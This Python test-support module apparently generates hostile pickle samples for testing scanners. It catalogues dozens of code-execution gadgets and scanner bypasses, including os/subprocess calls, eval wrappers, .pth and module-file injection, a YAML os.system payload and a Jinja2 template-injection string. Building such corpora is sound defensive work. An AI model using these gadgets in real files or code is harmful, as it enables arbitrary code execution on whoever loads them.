"""Names that a pickle can call to run something: from scanners' lists, their bypass reports, and from reading."""

from __future__ import annotations

from collections.abc import Iterator

from support.hostile.assembler import (
    ARGUMENTS,
    MARK,
    PYTHON,
    SHELL,
    Code,
    Hostile,
    attribute,
    call,
    method,
    name,
    sample,
)
from support.hostile.indirect_names import MORE_NAMES, plain

_OS = name("os", "system")
_WRITTEN = method(call("pathlib:Path", "written.py"), "write_text", PYTHON)
_NAMESPACE = call("builtins:dict")


def called_names() -> Iterator[Hostile]:
    """One sample for each way to run something through a name."""
    for trick, rows in {**_TABLE, **MORE_NAMES}.items():
        for label, needs, parts in rows:
            yield sample(trick, label, *parts, needs=needs)


_TABLE: dict[str, list[tuple[str, str, tuple[Code, ...]]]] = {
    "programs of os": plain(
        ("os:system", (SHELL,)),
        ("posix:system", (SHELL,)),
        ("os:popen", (SHELL,)),
        ("os:execl", ("/bin/sh", *ARGUMENTS)),
        ("os:execlp", ("sh", *ARGUMENTS)),
        ("os:execv", ("/bin/sh", ARGUMENTS)),
        ("os:execvp", ("sh", ARGUMENTS)),
        ("posix:execv", ("/bin/sh", ARGUMENTS)),
        ("os:spawnl", (0, "/bin/sh", *ARGUMENTS)),
        ("os:spawnlp", (0, "sh", *ARGUMENTS)),
        ("os:spawnv", (0, "/bin/sh", ARGUMENTS)),
        ("os:posix_spawn", ("/bin/sh", ARGUMENTS, {})),
        ("posix:posix_spawnp", ("sh", ARGUMENTS, {})),
    ),
    "programs of subprocess": plain(
        ("subprocess:Popen", (ARGUMENTS,)),
        ("subprocess:call", (ARGUMENTS,)),
        ("subprocess:run", (ARGUMENTS,)),
        ("subprocess:check_call", (ARGUMENTS,)),
        ("subprocess:check_output", (ARGUMENTS,)),
        ("subprocess:getoutput", (SHELL,)),
        ("subprocess:getstatusoutput", (SHELL,)),
        ("pty:spawn", (ARGUMENTS,)),
        ("multiprocessing.util:spawnv_passfds", (b"/bin/sh", [b"sh", b"-c", SHELL.encode()], ())),
    ),
    "programs under another roof": [
        *plain(
            ("uuid:_get_command_stdout", ("sh", "-c", SHELL)),
            ("_osx_support:_read_output", (SHELL,)),
            ("imaplib:IMAP4_stream", (SHELL,)),
            ("pydoc:pipepager", ("x", f"cat>{MARK}")),
            ("pydoc:tempfilepager", ("x", f"{SHELL};cat")),
            ("distutils.spawn:spawn", (ARGUMENTS,)),
            ("mailcap:findmatch", ({"a/b": [{"view": "x", "test": SHELL}]}, "a/b")),
        ),
        *plain(("psutil:Popen", (ARGUMENTS,)), needs="psutil"),
        *plain(("torch.utils.collect_env:run", (SHELL,)), needs="torch"),
        ("webbrowser", "", (method(call("webbrowser:GenericBrowser", ARGUMENTS), "open", "x"),)),
        ("webbrowser-background", "", (method(call("webbrowser:BackgroundBrowser", ARGUMENTS), "open", "x"),)),
        ("pip-log", "pip", (call("pip._internal.cli.main:main", ["--log", MARK, "list"]),)),
        ("ensurepip", "pip", (call("ensurepip:_run_pip", ["--log", MARK, "list"]),)),
    ],
    "code from text": [
        *plain(
            ("builtins:eval", (PYTHON,)),
            ("builtins:exec", (PYTHON,)),
            ("timeit:timeit", (PYTHON, "pass")),
            ("dataclasses:_create_fn", ("f", [f"a={PYTHON}"], ["pass"])),
            ("typing:_eval_type", (call("typing:ForwardRef", PYTHON), {}, {})),
            ("timeit:main", (["-n1", "-r1", PYTHON],)),
            ("timeit:repeat", (PYTHON, "pass")),
            ("cProfile:run", (PYTHON,)),
            ("cProfile:runctx", (PYTHON, _NAMESPACE, _NAMESPACE)),
            ("profile:run", (PYTHON,)),
            ("doctest:debug_script", (PYTHON, True)),
        ),
        ("builtins.compile", "", (call("builtins:exec", call("builtins:compile", PYTHON, "x", "exec")),)),
        ("bdb.Bdb", "", (method(call("bdb:Bdb"), "run", PYTHON),)),
        ("trace.Trace", "", (method(call("trace:Trace"), "run", PYTHON),)),
        ("profile.Profile", "", (method(call("profile:Profile"), "run", PYTHON),)),
        ("cProfile.Profile", "", (method(call("cProfile:Profile"), "run", PYTHON),)),
        ("code.InteractiveInterpreter", "", (method(call("code:InteractiveInterpreter"), "runsource", PYTHON),)),
        ("code.InteractiveConsole", "", (method(call("code:InteractiveConsole"), "push", PYTHON),)),
        ("codeop", "", (call("builtins:exec", call("codeop:compile_command", PYTHON)),)),
        (
            "logging.config",
            "",
            (
                call(
                    "logging.config:dictConfig",
                    {
                        "version": 1,
                        "handlers": {"a": {"()": "os.system", "command": SHELL}},
                        "root": {"handlers": ["a"]},
                    },
                ),
            ),
        ),
        (
            "typing.ForwardRef",
            "",
            (
                method(
                    call("typing:ForwardRef", PYTHON), "_evaluate", _NAMESPACE, _NAMESPACE, call("builtins:frozenset")
                ),
            ),
        ),
    ],
    "code from a file": [
        ("runpy.run_path", "", (_WRITTEN, call("runpy:run_path", "written.py"))),
        ("optparse.Values", "", (_WRITTEN, method(call("optparse:Values"), "read_file", "written.py"))),
        ("runpy.run_module", "", (_WRITTEN, call("site:addsitedir", "."), call("runpy:run_module", "written"))),
        (
            "importlib.import_module",
            "",
            (_WRITTEN, call("site:addsitedir", "."), call("importlib:import_module", "written")),
        ),
        ("builtins.__import__", "", (_WRITTEN, call("site:addsitedir", "."), call("builtins:__import__", "written"))),
        ("the name itself", "", (_WRITTEN, call("site:addsitedir", "."), name("written", "x"))),
        (
            "SourceFileLoader",
            "",
            (_WRITTEN, method(call("importlib.machinery:SourceFileLoader", "w", "written.py"), "load_module")),
        ),
        ("imp", "", (_WRITTEN, call("imp:load_source", "w", "written.py"))),
        (
            "execfile",
            "",
            (_WRITTEN, call("py_compile:compile", "written.py", "w.pyc"), call("runpy:run_path", "w.pyc")),
        ),
        (
            "site .pth",
            "",
            (method(call("pathlib:Path", "a.pth"), "write_text", f"import os;{PYTHON}"), call("site:addsitedir", ".")),
        ),
        (
            "torch.hub",
            "torch",
            (method(call("pathlib:Path", "hubconf.py"), "write_text", PYTHON), call("torch.hub:_load_local", ".", "x")),
        ),
        ("test.support", "", (_WRITTEN, method(call("unittest.loader:TestLoader"), "discover", ".", "written.py"))),
        (
            "doctest.testfile",
            "",
            (
                method(call("pathlib:Path", "t.txt"), "write_text", f">>> {PYTHON}\n"),
                call("doctest:testfile", "t.txt", False),
            ),
        ),
        (
            "zipimport",
            "",
            (
                method(call("zipfile:ZipFile", "w.zip", "w"), "writestr", "written.py", PYTHON),
                method(call("zipimport:zipimporter", "w.zip"), "load_module", "written"),
            ),
        ),
    ],
    "code of PyTorch and NumPy": [
        *plain(
            ("torch.fx.graph_module:_exec_with_source", (PYTHON, _NAMESPACE)),
            ("torch.fx.graph_module:_forward_from_src", (f"{PYTHON}\ndef forward(): pass", _NAMESPACE)),
            ("torch.fx.graph_module:_method_from_src", ("f", f"{PYTHON}\ndef f(): pass", _NAMESPACE)),
            ("torch.fx.graph_module:reduce_graph_module", ({"_code": f"{PYTHON}\ndef forward(self): pass"}, "")),
            ("torch.jit.unsupported_tensor_ops:execWrapper", (PYTHON, _NAMESPACE, _NAMESPACE)),
            ("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", (None, PYTHON, ())),
            needs="torch",
        ),
        *plain(
            ("numpy.f2py.crackfortran:getlincoef", (PYTHON, {})),
            ("numpy.f2py.crackfortran:myeval", (PYTHON,)),
            ("numpy.f2py.crackfortran:_eval_length", (PYTHON, {})),
            ("numpy.f2py.crackfortran:param_eval", (PYTHON, {}, {})),
            ("numpy.testing._private.utils:runstring", (PYTHON, _NAMESPACE)),
            ("numpy.testing._private.utils:measure", (PYTHON,)),
            needs="numpy",
        ),
    ],
    "code of other libraries": [
        *plain(
            ("sympy:sympify", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.core.sympify:sympify", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.parsing.sympy_parser:parse_expr", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.parsing.sympy_parser:eval_expr", (PYTHON, _NAMESPACE, {"open": name("builtins", "open")})),
            needs="sympy",
        ),
        *plain(
            ("yaml:unsafe_load", (f"!!python/object/apply:os.system ['{SHELL}']",)),
            ("yaml:load", (f"!!python/object/apply:os.system ['{SHELL}']", name("yaml", "UnsafeLoader"))),
            needs="yaml",
        ),
        (
            "jinja2.Template",
            "jinja2",
            (
                method(
                    call("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"), "render"
                ),
            ),
        ),
        ("jinja2 import_string", "jinja2", (call(call("jinja2.utils:import_string", "os:system"), SHELL),)),
        ("sympy.lambdify", "sympy", (call(call("sympy.utilities.lambdify:lambdify", [], PYTHON)),)),
    ],
    "imports by name": [
        ("importlib.import_module", "", (call(attribute(call("importlib:import_module", "os"), "system"), SHELL),)),
        ("importlib.__import__", "", (call(attribute(call("importlib:__import__", "os"), "system"), SHELL),)),
        ("_gcd_import", "", (call(attribute(call("importlib._bootstrap:_gcd_import", "os"), "system"), SHELL),)),
        ("frozen", "", (call(attribute(call("_frozen_importlib:__import__", "os"), "system"), SHELL),)),
        ("pkgutil.resolve_name", "", (call(call("pkgutil:resolve_name", "os:system"), SHELL),)),
        ("pydoc.locate", "", (call(call("pydoc:locate", "os.system"), SHELL),)),
        ("logging.config._resolve", "", (call(call("logging.config:_resolve", "os.system"), SHELL),)),
        (
            "BaseConfigurator",
            "",
            (call(method(call("logging.config:BaseConfigurator", {}), "resolve", "os.system"), SHELL),),
        ),
        (
            "test.support",
            "",
            (call(attribute(call("test.support.import_helper:import_module", "os"), "system"), SHELL),),
        ),
        (
            "sys.modules",
            "",
            (call(attribute(call("operator:getitem", name("sys", "modules"), "os"), "system"), SHELL),),
        ),
        (
            "cloudpickle.subimport",
            "cloudpickle",
            (call(attribute(call("cloudpickle.cloudpickle:subimport", "os"), "system"), SHELL),),
        ),
    ],
    "aliases in other modules": [
        *(
            (alias.replace(":", "."), needs, (call(alias, SHELL),))
            for alias, needs in (
                ("shutil:os.system", ""),
                ("random:_os.system", ""),
                ("logging:os.system", ""),
                ("argparse:_os.system", ""),
                ("pathlib:os.system", ""),
                ("torch.serialization:os.system", "torch"),
                ("torch.hub:os.system", "torch"),
                ("torch._utils:torch.os.system", "torch"),
                ("numpy.lib._npyio_impl:os.system", "numpy"),
                ("joblib.numpy_pickle:os.system", "joblib"),
                ("sklearn.datasets._base:os.system", "sklearn"),
                ("scipy.io._fast_matrix_market:os.system", "scipy"),
                ("torch.nn.modules.module:torch.os.system", "torch"),
            )
        ),
        ("a module as a name", "", (call(attribute(name("shutil", "os"), "system"), SHELL),)),
        (
            "globals of a function",
            "",
            (
                call(
                    call(
                        "operator:getitem",
                        call("operator:getitem", name("collections", "namedtuple.__globals__"), "__builtins__"),
                        "eval",
                    ),
                    PYTHON,
                ),
            ),
        ),
        (
            "builtins of a module",
            "",
            (call(call("operator:getitem", name("collections", "abc.__builtins__"), "eval"), PYTHON),),
        ),
        ("concurrent.futures", "", (call("concurrent.futures.process:os.system", SHELL),)),
        (
            "a class method",
            "",
            (call(attribute(call("subprocess:Popen.__init__.__globals__.__getitem__", "os"), "system"), SHELL),),
        ),
    ],
}
